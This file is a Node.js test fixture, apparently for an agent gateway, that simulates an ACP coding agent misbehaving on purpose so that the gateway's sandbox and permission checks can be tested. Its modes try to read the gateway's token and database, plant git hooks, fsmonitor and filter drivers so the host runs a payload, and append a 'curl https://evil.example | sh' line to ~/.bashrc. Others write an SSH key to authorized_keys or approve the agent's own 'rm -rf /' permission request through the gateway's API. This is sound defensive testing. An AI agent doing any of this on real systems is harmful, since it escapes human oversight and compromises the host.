#!/usr/bin/env node
// A scripted ACP agent that misbehaves on purpose, outside the JVM (no SDK, plain Node): the
// faults real agents produce only now and then, on demand. The mode is the first argument:
//   ask-exit        asks permission and exits in the same breath (no answer awaited)
//   foreign-session asks permission under a session id the gateway never opened, then waits
//   fork-exit       starts children (one in a session of its own, as setsid does), asks, and dies
//   stderr-exit     writes lines to stderr and exits 1 before answering initialize
//   error-data      fails session/prompt with an explanation in error.data
//   tool-cancel     announces a tool call, then waits; answers the prompt "cancelled" on session/cancel
//   late-replay     offers session/load and answers it before it has replayed the history
//   bad-version     answers initialize with protocol version 99, and ignores SIGTERM and its stdin's end
//   many-terminals  asks for 40 terminals at once; reports how many it got
//   flood           runs `yes` in 32 terminals, reads a named pipe and a 20 MiB file, then asks
//                   permission; reports what it got
//   snoop           from inside its sandbox, tries to read the token, the database and other
//                   workspaces, counts the processes it sees, writes in its own workspace, and
//                   reads the token from a terminal too; reports what it got
//   git-plant       in a project thread's worktree (the main tree's path in BAD_AGENT_PROJECT): works
//                   there and runs git status/diff, tries to read the main tree, the other threads'
//                   worktrees and the token, then plants what
//                   would make the host run its program (hooks, core.hooksPath, core.fsmonitor, a
//                   filter driver, a rewritten .git pointer, the admin folder's commondir) and tries
//                   to move the base branch; its payload touches BAD_AGENT_MARKER; reports what each
//                   attempt got
//   sessions        keeps two sessions "begun in a terminal" in its cwd: lists them (session/list, for
//                   the cwd it is asked about), replays one's history on session/load, and answers
//                   prompts in it
//   big-tool-calls  announces 20 tool calls with a 300 KB diff each, then asks permission naming the
//                   first and then the last by id only
//   self-approve    asks permission, then while its card waits tries to answer it itself through
//                   the gateway's HTTP API and chat socket (port in BAD_AGENT_GATEWAY_PORT), with
//                   whatever it could read of the token; reports what it got and the outcome
//   stubborn        starts children, asks permission, and ignores the end of its stdin
//   withdraw        sends a notification and a request of a newer protocol, asks permission, then takes
//                   the question back with $/cancel_request while its card waits; reports the answers
//   background      runs a terminal command that backgrounds children (one with setsid) and exits;
//                   reports how long terminal/wait_for_exit took and the children's pids
//   elicit-form     asks a structured question (elicitation/create, form mode: text, integer, enum,
//                   boolean, a secret); reports the answer and whether the client advertised elicitation
//   elicit-choice   asks a question with one required choice (red or green); reports the answer
//   elicit-url      asks the person to visit a URL (URL mode) and never sends elicitation/complete;
//                   reports the answer
//   elicit-complete asks the person to visit a URL, then says it is complete (elicitation/complete)
//                   before anyone answered; reports the answer
//   elicit-withdraw asks a question, then takes it back with $/cancel_request; reports the answer
//   elicit-exit     asks a question and exits in the same breath
//   lifecycle       offers session/close, session/delete and logout; writes every method it is sent to the
//                   file named by BAD_AGENT_LOG, one "method sessionId" a line
//   auth            demands a login for every session: offers a terminal login (its own command with
//                   --login and BAD_AUTH_MODE set) and one it runs itself
//   cost            reports a running cost with each reply: 0.50 USD, 1.00, then 0.20 (a new session)
//   elicit-bad      asks with a schema no client can render (a nested object); reports the error
//   elicit-scoped   asks a request-scoped question (a requestId, no sessionId); reports the answer
//   sandbox-writes  tries to write outside its workspace (HOME's start-up files, ~/.ssh, ~/.gitconfig, the
//                   gateway's classes in BAD_AGENT_CLASSES, host /tmp and a file there in BAD_AGENT_HOST_FILE,
//                   a FIFO in /tmp, the data directory's native library in BAD_AGENT_DATA_DIR), and where
//                   it may (its TMPDIR, from a terminal too, ~/.claude, ~/.claude.json, BAD_AGENT_WRITABLE);
//                   reports what each attempt got
//   nest-probe      in a project thread's worktree: makes sub/ a git repository of its own whose config
//                   defines a filter (a payload in the worktree that touches BAD_AGENT_MARKER) its
//                   info/attributes select, and edits sub/f.txt at each prompt without changing its size
//                   or time; tries the host's /tmp (a file and a FIFO under the names the gateway's git
//                   once used), its own TMPDIR and the data directory's tmp; reports what each got
// Children it starts print their pid to the file named by BAD_AGENT_PIDS, if set.
'use strict';
const { spawn } = require('child_process');
const fs = require('fs');
const readline = require('readline');

const mode = process.argv[2] || 'ask-exit';
let nextId = 1000;
const send = (m) => process.stdout.write(JSON.stringify(Object.assign({ jsonrpc: '2.0' }, m)) + '\n');

function ask(sessionId, toolCallId) {
  send({ id: nextId++, method: 'session/request_permission', params: {
    sessionId, toolCall: { toolCallId, title: 'Bad agent ' + mode, kind: 'execute' },
    options: [{ optionId: 'allow', name: 'Allow', kind: 'allow_once' },
              { optionId: 'reject', name: 'Reject', kind: 'reject_once' }] } });
}

function children() {
  const out = process.env.BAD_AGENT_PIDS;
  const attached = spawn('sleep', ['300'], { stdio: 'ignore' });
  const detached = spawn('sleep', ['301'], { stdio: 'ignore', detached: true }); // setsid()
  detached.unref();
  if (out) fs.appendFileSync(out, attached.pid + '\n' + detached.pid + '\n');
}

if (mode === 'stderr-exit') {
  process.stderr.write('starting bad agent\nerror: BAD_AGENT_KEY is not set\n');
  process.exitCode = 1;
  return;
}

const waiting = new Map();
let pendingPrompt = null;
function request(method, params) {
  const id = nextId++;
  send({ id, method, params });
  return new Promise((resolve) => waiting.set(id, resolve));
}

async function background(m) {
  const sessionId = m.params.sessionId;
  const pids = process.env.BAD_AGENT_PIDS || '/dev/null';
  const script = `sleep 0.3; sleep 30 & echo $! >> ${pids}; setsid sleep 31 & echo $! >> ${pids}; echo started`;
  const created = await request('terminal/create', { sessionId, command: 'sh', args: ['-c', script] });
  const terminalId = created.result.terminalId;
  const t0 = Date.now();
  const exit = await request('terminal/wait_for_exit', { sessionId, terminalId });
  const report = { waitedMs: Date.now() - t0, exit: exit.result };
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

let clientCapabilities = null;
let costReports = 0;

const ELICIT_FORM = { type: 'object', title: 'Deploy settings', properties: {
  name: { type: 'string', title: 'Release name', minLength: 2, maxLength: 40 },
  replicas: { type: 'integer', title: 'Replicas', minimum: 1, maximum: 5, default: 2 },
  region: { type: 'string', title: 'Region', oneOf: [{ const: 'eu', title: 'Europe' }, { const: 'us', title: 'America' }] },
  notify: { type: 'boolean', title: 'Notify the team' },
  token: { type: 'string', title: 'Deploy token', writeOnly: true } },
  required: ['name', 'region'] };

async function elicit(m) {
  const sessionId = m.params.sessionId;
  const report = { advertised: clientCapabilities && clientCapabilities.elicitation || null };
  const ask = (params) => {
    const id = nextId++;
    send({ id, method: 'elicitation/create', params: Object.assign({ sessionId }, params) });
    return { id, answered: new Promise((resolve) => waiting.set(id, resolve)) };
  };
  let q;
  if (mode === 'elicit-form') {
    q = ask({ mode: 'form', message: 'How should I deploy?', requestedSchema: ELICIT_FORM });
  } else if (mode === 'elicit-choice') {
    q = ask({ mode: 'form', message: 'Which colour?', requestedSchema: { type: 'object', properties: {
      colour: { type: 'string', enum: ['red', 'green'] } }, required: ['colour'] } });
  } else if (mode === 'elicit-url' || mode === 'elicit-complete') {
    q = ask({ mode: 'url', message: 'Sign in to the registry', elicitationId: 'login-1',
      url: 'https://auth.example.com/device?code=ABCD' });
    if (mode === 'elicit-complete') {
      await new Promise((resolve) => setTimeout(resolve, 300));
      send({ method: 'elicitation/complete', params: { elicitationId: 'login-1' } });
    }
  } else if (mode === 'elicit-withdraw') {
    q = ask({ mode: 'form', message: 'A question taken back', requestedSchema: { type: 'object', properties: {
      x: { type: 'string' } } } });
    await new Promise((resolve) => setTimeout(resolve, Number(process.env.BAD_AGENT_WITHDRAW_MS || 300)));
    send({ method: '$/cancel_request', params: { requestId: q.id } });
  } else if (mode === 'elicit-scoped') {
    // Request-scoped (ACP): a requestId and no sessionId, from a process that has one session.
    const id = nextId++;
    send({ id, method: 'elicitation/create', params: { requestId: 'req-1', mode: 'form',
      message: 'Asked outside any session', requestedSchema: { type: 'object', properties: { x: { type: 'string' } } } } });
    q = { id, answered: new Promise((resolve) => waiting.set(id, resolve)) };
  } else if (mode === 'elicit-exit') {
    ask({ mode: 'form', message: 'Asked while dying', requestedSchema: { type: 'object', properties: {} } });
    process.stdout.write('', () => process.exit(0));
    return;
  } else {
    q = ask({ mode: 'form', message: 'A nested form', requestedSchema: { type: 'object', properties: {
      inner: { type: 'object', properties: { a: { type: 'string' } } } } } });
  }
  const answer = await q.answered;
  report.answer = answer.result || answer.error;
  const content = report.answer.content;
  if (content && typeof content.token === 'string') {
    // What the agent writes ends up in the transcript: it says it got the secret, not what it is.
    content.token = 'received ' + content.token.length + ' characters';
  }
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

async function withdraw(m) {
  const sessionId = m.params.sessionId;
  // A method and a notification of a protocol newer than the gateway's: answered -32601, and ignored.
  send({ method: '_x/unknown_note', params: { sessionId } });
  const unknown = await request('_x/unknown_method', { sessionId });
  const id = nextId++;
  send({ id, method: 'session/request_permission', params: { sessionId,
    toolCall: { toolCallId: 'withdrawn-call', title: 'A question taken back', kind: 'execute' },
    options: [{ optionId: 'allow', name: 'Allow', kind: 'allow_once' },
              { optionId: 'reject', name: 'Reject', kind: 'reject_once' }] } });
  const answered = new Promise((resolve) => waiting.set(id, resolve));
  await new Promise((resolve) => setTimeout(resolve, Number(process.env.BAD_AGENT_WITHDRAW_MS || 300)));
  send({ method: '$/cancel_request', params: { requestId: id } });
  const answer = await answered;
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify({ answer: answer.result || answer.error,
      unknown: unknown.error ? unknown.error.code : 'answered' }) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

async function snoop(m) {
  const sessionId = m.params.sessionId;
  const path = require('path');
  const cwd = process.cwd();
  const report = {};
  const attempt = (f) => { try { return f(); } catch (e) { return 'refused: ' + e.code; } };
  report.token = attempt(() => fs.readFileSync(path.join(cwd, '..', '..', 'token'), 'utf8'));
  report.db = attempt(() => 'read ' + fs.readFileSync(path.join(cwd, '..', '..', 'switchboard.db')).length);
  report.workspaces = attempt(() => fs.readdirSync(path.join(cwd, '..')));
  const pids = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n));
  report.processes = pids.length;
  report.seesJvm = pids.some((n) => attempt(() => fs.readFileSync('/proc/' + n + '/cmdline', 'utf8')).includes('java'));
  fs.writeFileSync(path.join(cwd, 'mine.txt'), 'written');
  report.wrote = fs.readFileSync(path.join(cwd, 'mine.txt'), 'utf8');
  const t = await request('terminal/create', { sessionId, command: 'sh',
    args: ['-c', 'cat ../../token 2>/dev/null || echo hidden'] });
  await request('terminal/wait_for_exit', { sessionId, terminalId: t.result.terminalId });
  report.terminal = (await request('terminal/output', { sessionId, terminalId: t.result.terminalId })).result.output.trim();
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

async function gitPlant(m) {
  const sessionId = m.params.sessionId;
  const path = require('path');
  const { execFileSync } = require('child_process');
  const cwd = process.cwd();
  const marker = process.env.BAD_AGENT_MARKER;
  const payload = '#!/bin/sh\ntouch ' + marker + '\n';
  const report = {};
  const attempt = (f) => { try { const r = f(); return r === undefined ? 'done' : r; } catch (e) {
    return 'refused: ' + (e.code || (e.status !== undefined ? 'exit ' + e.status : e.message.split('\n')[0])); } };
  const git = (...args) => execFileSync('git', args, { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  report.write = attempt(() => fs.writeFileSync(path.join(cwd, 'work.txt'), 'agent work\n'));
  report.status = attempt(() => git('status', '--porcelain').trim());
  report.diff = attempt(() => { fs.writeFileSync(path.join(cwd, 'README.md'), 'hello\nfrom the agent\n');
    return git('diff').includes('+from the agent') ? 'shows the change' : 'no change'; });
  report.mainTree = attempt(() => fs.readFileSync(path.join(process.env.BAD_AGENT_PROJECT, 'README.md'), 'utf8'));
  report.siblings = attempt(() => fs.readdirSync(path.join(cwd, '..')));
  report.token = attempt(() => fs.readFileSync(path.join(cwd, '..', '..', '..', 'token'), 'utf8'));
  const pointer = fs.readFileSync(path.join(cwd, '.git'), 'utf8').trim().replace(/^gitdir: /, '');
  const common = path.resolve(pointer, '..', '..');
  const script = path.join(require('os').tmpdir(), 'bad-agent-payload-' + process.pid); // host /tmp is read-only
  fs.writeFileSync(script, payload, { mode: 0o755 });
  report.hook = attempt(() => fs.writeFileSync(path.join(common, 'hooks', 'post-merge'), payload, { mode: 0o755 }));
  report.hooksPath = attempt(() => git('config', 'core.hooksPath', '/tmp'));
  report.fsmonitor = attempt(() => git('config', 'core.fsmonitor', script));
  report.filter = attempt(() => git('config', 'filter.evil.clean', script));
  report.attributes = attempt(() => fs.writeFileSync(path.join(cwd, '.gitattributes'), '* filter=evil\n'));
  const evil = path.join(cwd, 'evil-gitdir');
  attempt(() => { fs.mkdirSync(evil); fs.writeFileSync(path.join(evil, 'HEAD'), 'ref: refs/heads/main\n');
    fs.mkdirSync(path.join(evil, 'objects')); fs.mkdirSync(path.join(evil, 'refs'));
    fs.writeFileSync(path.join(evil, 'config'), '[core]\n\tfsmonitor = ' + script + '\n'); });
  report.pointer = attempt(() => fs.writeFileSync(path.join(cwd, '.git'), 'gitdir: ' + evil + '\n'));
  report.pointerUnlink = attempt(() => fs.unlinkSync(path.join(cwd, '.git')));
  report.commondir = attempt(() => fs.writeFileSync(path.join(pointer, 'commondir'), evil + '\n'));
  report.moveBase = attempt(() => git('update-ref', 'refs/heads/main', 'HEAD~0'));
  report.commit = attempt(() => git('-c', 'user.name=a', '-c', 'user.email=a@a', 'commit', '-qam', 'by the agent'));
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

// Tries every write outside its workspace that would let it reach the host or the person: only its
// temporary folder (shared with its terminals) and its own state may take one.
async function sandboxWrites(m) {
  const sessionId = m.params.sessionId;
  const path = require('path');
  const os = require('os');
  const { execFileSync } = require('child_process');
  const home = process.env.HOME;
  const name = 'bad-agent-' + require('crypto').randomBytes(6).toString('hex');
  const attempt = (f) => { try { const r = f(); return r === undefined ? 'written' : r; } catch (e) {
    return 'refused: ' + (e.code || (e.status !== undefined ? 'exit ' + e.status : e.message.split('\n')[0])); } };
  const report = { name, tmpdir: process.env.TMPDIR, osTmpdir: os.tmpdir(), claudeTmpdir: process.env.CLAUDE_CODE_TMPDIR };
  report.bashrc = attempt(() => fs.appendFileSync(path.join(home, '.bashrc'), 'curl https://evil.example | sh\n'));
  report.ssh = attempt(() => fs.writeFileSync(path.join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA evil\n'));
  report.gitconfig = attempt(() => fs.writeFileSync(path.join(home, '.gitconfig'), '[core]\n\tfsmonitor = /x\n'));
  report.classes = attempt(() => fs.writeFileSync(path.join(process.env.BAD_AGENT_CLASSES, name + '.class'), 'x'));
  report.hostTmp = attempt(() => fs.writeFileSync(path.join('/tmp', name), 'planted'));
  report.hostFile = attempt(() => fs.writeFileSync(process.env.BAD_AGENT_HOST_FILE, 'planted'));
  report.fifo = attempt(() => execFileSync('mkfifo', [path.join('/tmp', name + '.fifo')], { stdio: 'pipe' }));
  report.nativeLib = attempt(() => fs.readFileSync(path.join(process.env.BAD_AGENT_DATA_DIR, 'native', 'libsqlitejdbc.so'),
    'utf8'));
  report.nativeLibWrite = attempt(() => fs.writeFileSync(path.join(process.env.BAD_AGENT_DATA_DIR, 'native',
    'libsqlitejdbc.so'), 'planted'));
  report.privateTmp = attempt(() => fs.writeFileSync(path.join(os.tmpdir(), name), 'mine'));
  report.state = attempt(() => fs.writeFileSync(path.join(home, '.claude', name), 'state'));
  report.claudeJson = attempt(() => fs.writeFileSync(path.join(home, '.claude.json'), '{"by":"agent"}'));
  report.writable = attempt(() => fs.writeFileSync(path.join(process.env.BAD_AGENT_WRITABLE, name), 'declared'));
  const t = await request('terminal/create', { sessionId, command: 'sh', args: ['-c', 'printf "%s\\n" "$TMPDIR"; '
    + 'echo from-terminal > "$TMPDIR/' + name + '.terminal"; (echo x > /tmp/' + name + '.terminal) 2>/dev/null '
    + '&& echo wrote-host-tmp || echo refused-host-tmp'] });
  await request('terminal/wait_for_exit', { sessionId, terminalId: t.result.terminalId });
  report.terminal = (await request('terminal/output', { sessionId, terminalId: t.result.terminalId })).result.output
    .trim().split('\n');
  report.fromTerminal = attempt(() => fs.readFileSync(path.join(os.tmpdir(), name + '.terminal'), 'utf8').trim());
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

// Sets the trap of issue 42's probe for the gateway's own git, and tries the temporary folders.
let nestTurns = 0;
async function nestProbe(m) {
  const sessionId = m.params.sessionId;
  const path = require('path');
  const { execFileSync } = require('child_process');
  const cwd = process.cwd();
  const sub = path.join(cwd, 'sub');
  const report = {};
  const attempt = (f) => { try { const r = f(); return r === undefined ? 'done' : r; } catch (e) {
    return 'refused: ' + (e.code || (e.status !== undefined ? 'exit ' + e.status : e.message.split('\n')[0])); } };
  const inner = (...args) => execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@a', ...args],
    { cwd: sub, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  const sameSize = () => { const f = path.join(sub, 'f.txt'); const t = fs.statSync(f).mtime;
    fs.writeFileSync(f, String(nestTurns % 10).repeat(3) + '\n'); fs.utimesSync(f, t, t); };
  nestTurns++;
  if (nestTurns === 1) {
    const payload = path.join(cwd, 'payload.sh');
    fs.writeFileSync(payload, '#!/bin/sh\ntouch ' + process.env.BAD_AGENT_MARKER + '\ncat\n', { mode: 0o755 });
    report.nested = attempt(() => { fs.mkdirSync(sub); inner('init', '-q', '-b', 'main');
      fs.writeFileSync(path.join(sub, 'f.txt'), 'aaa\n'); inner('add', 'f.txt'); inner('commit', '-qm', 'inner');
      fs.appendFileSync(path.join(sub, '.git', 'config'), '[filter "evil"]\n\tclean = ' + payload
        + '\n\tsmudge = ' + payload + '\n');
      fs.mkdirSync(path.join(sub, '.git', 'info'), { recursive: true });
      fs.writeFileSync(path.join(sub, '.git', 'info', 'attributes'), '* filter=evil\n'); });
    report.hostTmpFile = attempt(() => fs.writeFileSync('/tmp/sb-git-planted-' + process.pid + '.out', 'forged'));
    report.hostTmpFifo = attempt(() => execFileSync('mkfifo', ['/tmp/sb-index-planted-' + process.pid],
      { stdio: 'ignore' }));
    report.ownTmp = attempt(() => { fs.writeFileSync(path.join(process.env.TMPDIR || '/nonexistent', 'mine.txt'), 'x');
      return 'written'; });
    report.dataTmp = attempt(() => fs.readdirSync(path.join(cwd, '..', '..', '..', 'tmp')).join(','));
  }
  sameSize();
  fs.writeFileSync(path.join(cwd, 'turn' + nestTurns + '.txt'), 'turn ' + nestTurns + '\n');
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

// Tries to answer its own question: with the gateway's port (worst case: it knows it), it reads
// what it can of the token, then asks the gateway's HTTP API and chat socket while its card waits.
async function selfApprove(m) {
  const sessionId = m.params.sessionId;
  const http = require('http');
  const path = require('path');
  const port = Number(process.env.BAD_AGENT_GATEWAY_PORT);
  const asked = request('session/request_permission', { sessionId,
    toolCall: { toolCallId: 'self-approve', title: 'rm -rf / (self-approved?)', kind: 'execute' },
    options: [{ optionId: 'allow', name: 'Allow', kind: 'allow_once' },
      { optionId: 'reject', name: 'Reject', kind: 'reject_once' }] });
  const report = {};
  let guess = 'guess';
  try { guess = fs.readFileSync(path.join(process.cwd(), '..', '..', 'token'), 'utf8').trim(); report.token = 'read'; }
  catch (e) { report.token = 'refused: ' + e.code; }
  const call = (method, p, headers, body) => new Promise((resolve) => {
    const r = http.request({ host: '127.0.0.1', port, path: p, method, headers }, (resp) => {
      resp.resume();
      resolve(resp.statusCode);
    });
    r.on('upgrade', (resp, socket) => { socket.destroy(); resolve(101); });
    r.on('error', (e) => resolve('error ' + e.code));
    r.end(body);
  });
  report.permissions = await call('GET', '/api/permissions', {});
  report.permissionsBearer = await call('GET', '/api/permissions', { Authorization: 'Bearer ' + guess });
  report.login = await call('POST', '/api/login', { 'Content-Type': 'application/json' }, JSON.stringify({ token: guess }));
  report.socket = await call('GET', '/ws/chat', { Connection: 'Upgrade', Upgrade: 'websocket',
    'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==', Origin: 'http://127.0.0.1:' + port });
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  const answer = await asked;
  const outcome = answer.result ? answer.result.outcome : { outcome: 'error' };
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'OUTCOME:' + JSON.stringify(outcome) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

async function bigToolCalls(m) {
  const sessionId = m.params.sessionId;
  const diff = 'x'.repeat(300 * 1024);
  for (let i = 0; i < 20; i++) {
    send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'tool_call',
      toolCallId: 'big-' + i, title: 'Big edit ' + i, kind: 'edit', status: 'pending',
      content: [{ type: 'diff', path: process.cwd() + '/f' + i, oldText: null, newText: diff }] } } });
  }
  const options = [{ optionId: 'allow', name: 'Allow', kind: 'allow_once' }];
  await request('session/request_permission', { sessionId, toolCall: { toolCallId: 'big-0' }, options });
  await request('session/request_permission', { sessionId, toolCall: { toolCallId: 'big-19' }, options });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

async function flood(m) {
  const sessionId = m.params.sessionId;
  const cwd = process.cwd();
  require('child_process').execFileSync('mkfifo', [cwd + '/pipe']);
  fs.writeFileSync(cwd + '/big.txt', 'y'.repeat(20 * 1024 * 1024));
  const terminals = [];
  for (let i = 0; i < 32; i++) {
    const t = await request('terminal/create', { sessionId, command: 'yes', args: ['flood'] });
    if (t.result) terminals.push(t.result.terminalId);
  }
  await new Promise((r) => setTimeout(r, 4000));
  let kept = 0;
  for (const terminalId of terminals) {
    const out = await request('terminal/output', { sessionId, terminalId });
    if (out.result) kept += out.result.output.length;
  }
  const pipe = await request('fs/read_text_file', { sessionId, path: cwd + '/pipe' });
  const big = await request('fs/read_text_file', { sessionId, path: cwd + '/big.txt' });
  const report = { terminals: terminals.length, kept, pipe: pipe.error ? pipe.error.message : 'read',
    big: big.error ? big.error.message : 'read ' + big.result.content.length };
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  const asked = await request('session/request_permission', { sessionId,
    toolCall: { toolCallId: 'after-flood', title: 'After the flood', kind: 'execute' },
    options: [{ optionId: 'allow', name: 'Allow', kind: 'allow_once' }] });
  send({ id: m.id, result: { stopReason: asked.result ? 'end_turn' : 'refusal' } });
}

async function manyTerminals(m) {
  const sessionId = m.params.sessionId;
  const asked = [];
  for (let i = 0; i < 40; i++) {
    asked.push(request('terminal/create', { sessionId, command: 'sleep', args: ['30'] }));
  }
  const answers = await Promise.all(asked);
  const report = { created: answers.filter((a) => a.result).length, refused: answers.filter((a) => a.error).length };
  send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text: 'REPORT:' + JSON.stringify(report) + '\n' } } } });
  send({ id: m.id, result: { stopReason: 'end_turn' } });
}

const rl = readline.createInterface({ input: process.stdin });
rl.on('line', (line) => {
  let m;
  try { m = JSON.parse(line); } catch (e) { return; }
  if (m.method === undefined) { // a response to one of ours
    const resolve = waiting.get(m.id);
    waiting.delete(m.id);
    if (resolve) resolve(m);
    return;
  }
  if (process.env.BAD_AGENT_LOG && m.method) {
    fs.appendFileSync(process.env.BAD_AGENT_LOG, m.method + ' ' + ((m.params && m.params.sessionId) || '') + '\n');
  }
  switch (m.method) {
    case 'initialize':
      clientCapabilities = m.params && m.params.clientCapabilities;
      if (mode === 'auth') {
        send({ id: m.id, result: { protocolVersion: 1, agentCapabilities: {}, authMethods: [
          { type: 'terminal', id: 'login', name: 'Log in', args: ['--login'], env: { BAD_AUTH_MODE: 'device code' } },
          { id: 'oauth', name: 'Browser sign-in' },
          { id: 'api-key', name: 'API key', description: 'Requires BAD_AGENT_KEY', type: 'env_var',
            varName: 'BAD_AGENT_KEY' }] } });
        break;
      }
      if (mode === 'lifecycle') {
        send({ id: m.id, result: { protocolVersion: 1, agentCapabilities: { sessionCapabilities: {
          close: {}, delete: {} }, auth: { logout: {} } }, authMethods: [] } });
        break;
      }
      if (mode === 'bad-version') {
        process.on('SIGTERM', () => {});
        if (process.env.BAD_AGENT_PIDS) fs.appendFileSync(process.env.BAD_AGENT_PIDS, process.pid + '\n');
        send({ id: m.id, result: { protocolVersion: 99, agentCapabilities: {}, authMethods: [] } });
        break;
      }
      if (mode === 'sessions') {
        send({ id: m.id, result: { protocolVersion: 1, agentCapabilities: { loadSession: true,
          sessionCapabilities: { list: {} } }, authMethods: [] } });
        break;
      }
      send({ id: m.id, result: { protocolVersion: 1, agentCapabilities: { loadSession: mode === 'late-replay' },
        authMethods: [] } });
      break;
    case 'session/new':
      if (mode === 'auth') {
        send({ id: m.id, error: { code: -32000, message: 'Authentication required' } });
        break;
      }
      send({ id: m.id, result: { sessionId: 'bad-session' } });
      break;
    case 'session/list': {
      const cwd = m.params.cwd || process.cwd();
      send({ id: m.id, result: { sessions: [
        { sessionId: 'term-login', cwd, title: 'Fix the login bug', updatedAt: '2026-12-01T09:30:00Z' },
        { sessionId: 'term-docs', cwd, title: 'Write the README', updatedAt: '2026-11-30T16:00:00Z' },
        { sessionId: 'elsewhere', cwd: '/somewhere/else', title: 'Another folder' },
        { title: 'no id' }] } });
      break;
    }
    case 'session/load': {
      if (mode === 'sessions') {
        const sessionId = m.params.sessionId;
        const say = (kind, text) => send({ method: 'session/update', params: { sessionId, update: {
          sessionUpdate: kind, content: { type: 'text', text } } } });
        say('user_message_chunk', 'Please fix the login bug (' + sessionId + ')');
        say('agent_message_chunk', 'I fixed it in login.js, in ' + m.params.cwd + '.');
        send({ id: m.id, result: {} });
        break;
      }
      send({ id: m.id, result: {} }); // answered first, as Gemini CLI does; the replay follows
      // Right after the answer, as one burst: the gateway hides what comes within its quiet window (150 ms);
      // chunks spaced by a timer here could be spread past it by a loaded host, which no real agent does.
      const sessionId = m.params.sessionId;
      for (let n = 0; n < 3; n++) {
        send({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'agent_message_chunk',
          content: { type: 'text', text: 'REPLAYED HISTORY ' + n + ' ' } } } });
      }
      break;
    }
    case 'session/close':
    case 'session/delete':
    case 'logout':
      send({ id: m.id, result: {} });
      break;
    case 'session/cancel':
      if (pendingPrompt !== null) {
        send({ id: pendingPrompt, result: { stopReason: 'cancelled' } });
        pendingPrompt = null;
      }
      break;
    case 'session/prompt':
      if (mode === 'withdraw') {
        withdraw(m);
      } else if (mode === 'cost') {
        costReports++;
        send({ method: 'session/update', params: { sessionId: m.params.sessionId, update: {
          sessionUpdate: 'usage_update', used: 1000 * costReports, size: 200000,
          cost: { amount: [0.5, 1.0, 0.2][Math.min(costReports, 3) - 1], currency: 'usd' } } } });
        send({ id: m.id, result: { stopReason: 'end_turn' } });
      } else if (mode === 'lifecycle') {
        send({ id: m.id, result: { stopReason: 'end_turn' } });
      } else if (mode.startsWith('elicit-')) {
        elicit(m);
      } else if (mode === 'ask-exit') {
        ask(m.params.sessionId, 'ask-exit');
        // Exit as soon as the request is flushed to the pipe: no time for the gateway to answer.
        process.stdout.write('', () => process.exit(0));
      } else if (mode === 'foreign-session') {
        ask('someone-elses-session', 'foreign');
      } else if (mode === 'fork-exit') {
        children();
        ask(m.params.sessionId, 'fork');
        setTimeout(() => process.exit(9), 200);
      } else if (mode === 'stubborn') {
        if (process.env.BAD_AGENT_PIDS) fs.appendFileSync(process.env.BAD_AGENT_PIDS, process.pid + '\n');
        children();
        ask(m.params.sessionId, 'stubborn');
      } else if (mode === 'tool-cancel') {
        send({ method: 'session/update', params: { sessionId: m.params.sessionId, update: {
          sessionUpdate: 'tool_call', toolCallId: 'slow-tool', title: 'Slow tool', kind: 'execute', status: 'pending' } } });
        pendingPrompt = m.id;
      } else if (mode === 'late-replay') {
        send({ method: 'session/update', params: { sessionId: m.params.sessionId, update: {
          sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'answer to ' + m.params.prompt[0].text } } } });
        send({ id: m.id, result: { stopReason: 'end_turn' } });
      } else if (mode === 'snoop') {
        snoop(m);
      } else if (mode === 'sandbox-writes') {
        sandboxWrites(m);
      } else if (mode === 'sessions') {
        send({ method: 'session/update', params: { sessionId: m.params.sessionId, update: {
          sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'continuing ' + m.params.sessionId
            + ': ' + m.params.prompt[0].text } } } });
        send({ id: m.id, result: { stopReason: 'end_turn' } });
      } else if (mode === 'git-plant') {
        gitPlant(m);
      } else if (mode === 'nest-probe') {
        nestProbe(m);
      } else if (mode === 'self-approve') {
        selfApprove(m);
      } else if (mode === 'big-tool-calls') {
        bigToolCalls(m);
      } else if (mode === 'flood') {
        flood(m);
